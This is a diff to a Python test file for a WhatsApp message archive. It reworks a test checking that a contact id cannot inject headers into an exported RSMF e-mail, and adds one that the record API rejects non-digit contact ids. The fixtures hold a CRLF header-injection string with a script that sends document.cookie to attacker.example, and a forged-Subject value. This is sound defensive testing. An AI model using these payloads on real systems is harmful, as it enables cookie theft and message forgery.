@@ -205,23 +205,19 @@ async def test_a_deleted_message_covered_by_a_disposition_row_without_a_ledger_l
 # --- Export bundles: the RSMF e-mail's headers -------------------------------------------------------
 
 async def test_a_contact_id_cannot_inject_headers_into_the_rsmf_email(stack, tmp_path):
-    """The RSMF file is an RFC 5322 message whose Subject carries the contact's id. A `sender` token
-    chooses it (the record API takes Meta's answer, contacts[0].wa_id included, from the caller); a
-    line break in it ends the headers early and makes the e-mail an HTML document of the sender's."""
+    """The RSMF file is an RFC 5322 message whose Subject carries the contact's id, which comes from
+    the payload (a webhook's `from`/`wa_id`); a line break in it must not end the headers early and
+    make the e-mail an HTML document of the sender's."""
     from wa_archive.export import ExportQuery, write_bundle
     from wa_archive.keys import safe_id
-    from tests.test_outbound import PNID, status_body
+    from wa_archive.sample_payloads import dumps, envelope, message
 
-    token = await stack.token("sender")
     contact = ("x\r\nContent-Type: text/html\r\n\r\n<script>fetch('https://attacker.example/'+document.cookie)"
                "</script>\r\n")
-    mid = "wamid.RSMF" + uuid.uuid4().hex
-    status, answer = await _record(stack, token, {
-        "phone_number_id": PNID, "request": {**TEXT, "to": "not-a-phone"},
-        "response": {"messages": [{"id": mid}], "contacts": [{"input": "not-a-phone", "wa_id": contact}]}})
+    item = message("text", {"body": "hello"}, phone=contact)
+    status, answer = await stack.post(dumps(envelope([item], phone=contact)))
     assert status == 200, answer
-    await stack.post(status_body(mid, "sent", 1771000000))
-    await stack.wait_for_message(mid)
+    await stack.wait_for_message(item["id"])
 
     out = tmp_path / "bundle.zip"
     await write_bundle(stack.pool, stack.store, ExportQuery(), out, exported_by="attack", signer=SIGNER)
@@ -231,6 +227,25 @@ async def test_a_contact_id_cannot_inject_headers_into_the_rsmf_email(stack, tmp
     assert rsmf.get_content_type() == "multipart/mixed", (
         f"the contact id rewrote the RSMF e-mail into {rsmf.get_content_type()}:\n{raw[:400]!r}")
     assert "<script>" not in rsmf.get("Subject", "") and b"\r\nContent-Type: text/html" not in raw
+
+
+async def test_the_record_api_takes_only_a_digits_contact_id(stack):
+    """A `sender` token supplies Meta's answer to the record API, contacts[].wa_id included: an id
+    that is not a WhatsApp id (digits) is refused, not archived as the contact."""
+    from tests.test_outbound import PNID
+
+    token = await stack.token("sender")
+    for wa_id in ("x\r\nSubject: forged", "４４７７００", "447700900123 ", 447700900123):
+        status, answer = await _record(stack, token, {
+            "phone_number_id": PNID, "request": {**TEXT, "to": "447700900123"},
+            "response": {"messages": [{"id": "wamid.RSMF" + uuid.uuid4().hex}],
+                         "contacts": [{"input": "447700900123", "wa_id": wa_id}]}})
+        assert status == 400 and "contacts[0].wa_id" in answer["error"], (wa_id, answer)
+    status, answer = await _record(stack, token, {
+        "phone_number_id": PNID, "request": {**TEXT, "to": "447700900123"},
+        "response": {"messages": [{"id": "wamid.RSMF" + uuid.uuid4().hex}],
+                     "contacts": [{"input": "447700900123", "wa_id": "447700900123"}]}})
+    assert status == 200, answer
 
 
 # --- Access logging --------------------------------------------------------------------------------
